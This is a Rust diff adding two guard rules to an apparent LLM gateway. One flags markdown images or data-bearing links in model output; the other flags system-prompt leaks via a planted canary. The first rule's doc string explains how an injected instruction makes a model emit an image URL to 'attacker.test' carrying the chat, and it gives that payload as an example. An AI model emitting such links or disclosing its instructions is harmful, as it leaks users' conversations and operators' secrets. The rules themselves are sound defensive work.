@@ -62,8 +62,30 @@ pub static GRD106: RuleInfo = RuleInfo {
     cwe: &[],
 };
 
+/// `GRD107 output-exfiltration-link`.
+pub static GRD107: RuleInfo = RuleInfo {
+    id: "GRD107",
+    name: "output-exfiltration-link",
+    severity: Severity::High,
+    summary: "Model output holds a markdown image or data-carrying link to a host outside the allow-list.",
+    doc: "## What it detects\nIn responses: markdown images `![alt](url)` to any host not in `[guard.output.links] allow-domains`, and markdown links or reference definitions whose URL carries a query, fragment or `=` (data).\n\n## Why it matters\nAn injected instruction can make the model emit an image whose URL holds the conversation; a chat client that renders it sends the data to the attacker without a click.\n\n## Example\n`![x](https://attacker.test/log?q=<summary of the chat>)` → `![x](<URL_REMOVED>)`\n\n## Remediation\nThe default action removes the URL; list the hosts your application may link to in `allow-domains`. Render model output with images from untrusted hosts disabled.\n\n## References\n- OWASP Top 10 for LLM Applications 2025, LLM05 Improper Output Handling, LLM02\n- MITRE ATLAS AML.T0024 Exfiltration via ML Inference API\n",
+    cwe: &[200],
+};
+
+/// `GRD108 system-prompt-leak`.
+pub static GRD108: RuleInfo = RuleInfo {
+    id: "GRD108",
+    name: "system-prompt-leak",
+    severity: Severity::High,
+    summary: "Model output contains the canary the gateway planted in the system prompt.",
+    doc: "## What it detects\nWith `[guard.output] canary = true` the gateway appends a random marker to each request's system prompt; the marker (or its base64, reversed or spaced form) appearing in the response means the model disclosed its instructions.\n\n## Why it matters\nSystem prompts hold business logic, tool descriptions and sometimes credentials; their disclosure helps attackers craft further injections (OWASP LLM07).\n\n## Example\nA response quoting `… [aigis-canary:k3j…]` after the user asked to repeat everything above.\n\n## Remediation\nThe response is blocked (or the marker redacted); review the prompt that caused it in the audit log and harden the system prompt.\n\n## References\n- OWASP Top 10 for LLM Applications 2025, LLM07 System Prompt Leakage\n",
+    cwe: &[200],
+};
+
 /// Every guard rule.
-pub static RULES: &[&RuleInfo] = &[&GRD101, &GRD102, &GRD103, &GRD104, &GRD105, &GRD106];
+pub static RULES: &[&RuleInfo] = &[
+    &GRD101, &GRD102, &GRD103, &GRD104, &GRD105, &GRD106, &GRD107, &GRD108,
+];
 
 #[cfg(test)]
 mod tests {
